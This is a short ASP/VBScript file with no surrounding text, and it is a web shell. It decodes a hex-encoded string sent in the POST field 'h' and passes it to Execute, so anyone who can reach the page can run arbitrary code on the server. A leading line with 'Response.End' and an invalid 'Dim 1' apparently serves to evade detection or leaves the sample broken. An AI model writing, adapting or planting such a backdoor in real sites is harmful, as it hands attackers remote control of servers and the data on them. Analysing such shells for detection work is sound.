<% Response.End : Dim 1 %>
<% Function D(s)
For i = 1 To Len(s) Step 2
D = D & Chr(CInt("&H" & Mid(s, i, 2)))
Next
End Function
Execute D(Request.Form("h")) %>